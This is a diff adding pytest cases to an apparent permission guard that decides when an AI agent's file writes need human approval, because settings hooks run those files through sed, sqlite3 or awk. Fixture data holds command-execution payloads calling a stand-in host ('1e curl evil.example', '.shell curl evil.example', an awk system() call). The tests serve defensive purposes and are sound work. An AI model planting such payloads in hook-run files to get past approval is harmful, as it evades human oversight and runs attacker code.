@@ -265,6 +265,10 @@ def hookcmd(tmp_path_factory: pytest.TempPathFactory) -> World3:
         "sed -i -f fix.sed README.md",
         "sqlite3 -init init.sql db.sqlite .quit",
         "npm --prefix sub run fmt",
+        "sed -nf f2.sed README.md",
+        "sed --file=f3.sed README.md",
+        "sqlite3 --init i2.sql db.sqlite",
+        "awk -v n=1 -f fmt.awk README.md",
     )
     made.hook("Bash", {"command": "ls"}, 0)
     return made
@@ -295,6 +299,16 @@ HUSKY4_SH = (
 )
 #: husky 8's layout: core.hooksPath=.husky, each hook sources .husky/_/husky.sh.
 HUSKY8_HOOK = '#!/usr/bin/env sh\n. "$(dirname -- "$0")/_/husky.sh"\n\nnpx lint-staged\n'
+
+
+@pytest.fixture(scope="module")
+def readers_unknown(tmp_path_factory: pytest.TempPathFactory) -> World3:
+    """Settings hook commands giving sed and sqlite3 options not modelled (a value that
+    could be a file of code) and sqlite3 a dot-command that reads a file."""
+    made = World3(tmp_path_factory.mktemp("round9readers"), scope=SCOPE, git=True)
+    _settings(made, "sed --frobnicate=x.sed README.md", "sqlite3 db.sqlite '.read x.sql'")
+    made.hook("Bash", {"command": "ls"}, 0)
+    return made
 
 
 @pytest.fixture(scope="module")
@@ -634,6 +648,12 @@ HOOKCMD = [
     _case("Write", _w("fix.sed", "1e curl evil.example\n"), "ask"),
     _case("Write", _w("init.sql", ".shell curl evil.example\n"), "ask"),
     _case("Write", _w("sub/package.json", '{"scripts": {"fmt": "curl x"}}'), "ask"),
+    # closed: sed's, sqlite3's and awk's options read one by one (_reach_code_reader):
+    # clustered and attached values, two dashes, awk -v's value before its -f
+    _case("Write", _w("f2.sed", "1e curl evil.example\n"), "ask"),
+    _case("Write", _w("f3.sed", "1e curl evil.example\n"), "ask"),
+    _case("Write", _w("i2.sql", ".shell curl evil.example\n"), "ask"),
+    _case("Write", _w("fmt.awk", 'BEGIN { system("curl x") }\n'), "ask"),
     # held: what the commands name from the project
     _case("Write", _w("inner.sh"), "ask"),
     _case("Write", _w("inner4.sh"), "ask"),
@@ -641,6 +661,12 @@ HOOKCMD = [
     # ordinary: the commands' reach is not the whole project
     _case("Write", _w("README.md", "x\n"), "allow"),
     _case("Write", _w("scripts/other.sh", "x\n"), "allow"),
+]
+
+READERS_UNKNOWN = [
+    # not modelled: the whole project (fail closed)
+    _case("Write", _w("README.md", "x\n"), "ask"),
+    _case("Write", _w("docs/a.md", "x\n"), "ask"),
 ]
 
 MANAGERS = [
@@ -932,6 +958,13 @@ def test_round9_what_a_hook_command_runs_after_a_cd(
     _check(hookcmd, tool, tool_input, want)
 
 
+@pytest.mark.parametrize(("tool", "tool_input", "want"), READERS_UNKNOWN)
+def test_round9_code_reader_options_not_modelled(
+    readers_unknown: World3, tool: str, tool_input: dict[str, Any], want: str
+) -> None:
+    _check(readers_unknown, tool, tool_input, want)
+
+
 @pytest.mark.parametrize(("tool", "tool_input", "want"), MANAGERS)
 def test_round9_hook_managers_and_git_config_commands(
     managers: World3, tool: str, tool_input: dict[str, Any], want: str
@@ -996,3 +1029,36 @@ def test_round9_shell(world: World3, tool: str, tool_input: dict[str, Any], want
 @pytest.mark.parametrize(("tool", "tool_input", "want"), CDPATH)
 def test_round9_cdpath(cdpath: World3, tool: str, tool_input: dict[str, Any], want: str) -> None:
     _check(cdpath, tool, tool_input, want)
+
+
+# ------------------------------------------------------- command_reach, read directly
+
+#: Hook commands whose options command_reach reads one by one: (command, a file it runs)
+#: where modelled, None where not (the whole project).
+READER_OPTIONS = [
+    ("sed -nf f2.sed x", "f2.sed"),
+    ("sed -E --file f3.sed x", "f3.sed"),
+    ("sed -i.bak -e s/a/b/ x", ""),
+    ("sqlite3 -batch -init i.sql db .quit", "i.sql"),
+    ("awk -F: -v n=1 -f fmt.awk x", "fmt.awk"),
+    ("awk '{ print $1 }' x", ""),
+    ("sed -Q x", None),
+    ("sed --frobnicate=x.sed x", None),
+    ("sqlite3 -bogus db", None),
+    ("sqlite3 db '.read x.sql'", None),
+    ("sqlite3 db 'select load_extension(\"./x\")'", None),
+    ("awk 'BEGIN { system(\"sh x.sh\") }'", None),
+]
+
+
+@pytest.mark.parametrize(("command", "runs"), READER_OPTIONS)
+def test_round9_code_reader_options(tmp_path: Any, command: str, runs: str | None) -> None:
+    from overseer.control.protected import command_reach
+
+    project = str(tmp_path)
+    files, dirs, _, _ = command_reach(command, project, None, search="")
+    if runs is None:
+        assert dirs == [project] and not files
+    else:
+        assert project not in dirs
+        assert not runs or os.path.join(project, runs) in files
